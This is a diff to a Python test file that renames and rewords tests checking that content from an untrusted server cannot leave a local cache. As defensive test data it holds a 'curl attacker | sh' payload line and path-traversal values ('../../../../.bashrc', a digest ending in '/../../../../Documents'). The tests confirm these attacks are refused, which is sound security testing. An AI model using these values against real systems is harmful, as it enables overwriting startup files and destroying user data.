@@ -1,4 +1,4 @@
-"""Folders on a server that somebody else keeps: opening one reads it or fails, and touches nothing of the user's."""
+"""Folders on an untrusted server: opening one reads it or fails, and never changes the user's files."""
 
 import hashlib
 import json
@@ -22,7 +22,7 @@ PAYLOAD = b"curl attacker | sh"
 
 @pytest.fixture
 def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
-    """Settings with the cache where it is by default, below a home folder."""
+    """Settings with the cache at its default location below a home folder."""
     monkeypatch.chdir(tmp_path)
     monkeypatch.setenv("MLFLOW_DISABLE_TELEMETRY", "true")
     monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path}/mlflow.db")
@@ -34,7 +34,7 @@ def sha(data: bytes) -> str:
 
 
 def database_pages(server: LoopbackServer, hidden: dict[str, Any]) -> dict[str, bytes]:
-    """A database of one row on ``server``; ``hidden`` is the entry of its file of hidden rows."""
+    """Return the files of a database of one row on ``server``; ``hidden`` is the entry of its hidden-rows file."""
     rows = shard_entry("00000", file_entry("img_emb/img_emb_00000.npy"), rows=1)
     embeddings = signed(manifest("embeddings", rows, identity={"encoder": ENCODER}))
     shards = [
@@ -53,9 +53,9 @@ def database_pages(server: LoopbackServer, hidden: dict[str, Any]) -> dict[str, 
     return {"/emb/manifest.json": embeddings, "/db/manifest.json": signed(database), "/db/hidden.npy": b"anything"}
 
 
-def test_search_in_a_database_whose_digest_is_a_path_deletes_nothing(settings: Settings, tmp_path: Path) -> None:
+def test_search_with_path_as_digest_deletes_nothing(settings: Settings, tmp_path: Path) -> None:
     documents = victim(tmp_path / "home" / "Documents")
-    digest = "0" * 64 + "/../../../../Documents"  # of <cache>/fetching/<digest>, which is emptied after use
+    digest = "0" * 64 + "/../../../../Documents"  # <cache>/fetching/<digest> is emptied after use
     with LoopbackServer({}) as server:
         server.replies.update(replies(database_pages(server, file_entry("hidden.npy", sha256=digest))))
         with pytest.raises(IntegrityError, match="64 lower-case hexadecimal digits") as caught:
@@ -64,7 +64,7 @@ def test_search_in_a_database_whose_digest_is_a_path_deletes_nothing(settings: S
     assert is_untouched(documents)
 
 
-def test_search_below_a_cache_that_is_a_link_deletes_nothing(settings: Settings, tmp_path: Path) -> None:
+def test_search_with_symlinked_cache_deletes_nothing(settings: Settings, tmp_path: Path) -> None:
     documents, disk, data = victim(tmp_path / "home" / "Documents"), tmp_path / "disk", b"anything"
     (disk / "fetching").mkdir(parents=True)
     settings.cache_folder.parent.mkdir(parents=True)
@@ -77,11 +77,11 @@ def test_search_below_a_cache_that_is_a_link_deletes_nothing(settings: Settings,
     assert is_untouched(documents)
 
 
-def test_generate_with_a_file_name_that_leaves_the_cache_overwrites_nothing(settings: Settings, tmp_path: Path) -> None:
+def test_load_pipeline_with_file_name_outside_cache_overwrites_nothing(settings: Settings, tmp_path: Path) -> None:
     startup = tmp_path / "home" / ".bashrc"
     startup.parent.mkdir()
     startup.write_text("export EDITOR=vi")
-    # From <cache>/generators/<digest>; on the server, a path of its own.
+    # Relative to <cache>/generators/<digest>; the server has a file at this path.
     name = "../../../../.bashrc"
     files = [file_entry("pipeline/model_index.json", sha256=sha(b"{}"), bytes=2)]
     files.append(file_entry(name, sha256=sha(PAYLOAD), bytes=len(PAYLOAD)))
@@ -100,7 +100,7 @@ def test_generate_with_a_file_name_that_leaves_the_cache_overwrites_nothing(sett
     assert startup.read_text() == "export EDITOR=vi"
 
 
-def test_generator_on_a_server_is_linked_below_the_cache_alone(tmp_path: Path) -> None:
+def test_generator_folder_of_remote_generator_is_inside_the_cache(tmp_path: Path) -> None:
     data = {"pipeline/model_index.json": b"{}", "pipeline/unet/config.json": b'{"a": 1}'}
     files = [file_entry(name, sha256=sha(body), bytes=len(body)) for name, body in data.items()]
     pages = {f"/gen/{name}": body for name, body in data.items()}
@@ -126,7 +126,7 @@ def test_generator_on_a_server_is_linked_below_the_cache_alone(tmp_path: Path) -
         {"effort": {"nprobe": 1, "candidates": 10}, "hidden": 1e300},
     ],
 )
-def test_database_with_info_of_another_type_is_refused_in_one_line(info: dict[str, Any], tmp_path: Path) -> None:
+def test_database_version_with_invalid_info_raises_one_line_error(info: dict[str, Any], tmp_path: Path) -> None:
     fields = manifest("database", identity={"encoder": ENCODER}, info=info)
     parsed = Manifest.from_json(signed(fields), "here")
     with pytest.raises(IntegrityError, match=r"^http://host/db has an unusable manifest field 'info\..*run again$"):
@@ -134,7 +134,7 @@ def test_database_with_info_of_another_type_is_refused_in_one_line(info: dict[st
 
 
 @pytest.mark.parametrize("encoder", [None, {}, {**ENCODER, "dimension": -1}, {**ENCODER, "name": 5}, DIGEST])
-def test_database_with_an_encoder_of_another_type_is_refused(encoder: Any) -> None:
+def test_database_version_with_invalid_encoder_raises(encoder: Any) -> None:
     parsed = Manifest.from_json(signed(manifest("database", identity={"encoder": encoder})), "here")
     with pytest.raises(IntegrityError, match="unusable manifest field 'identity"):
         DatabaseVersion.of(parsed, "http://host/db")
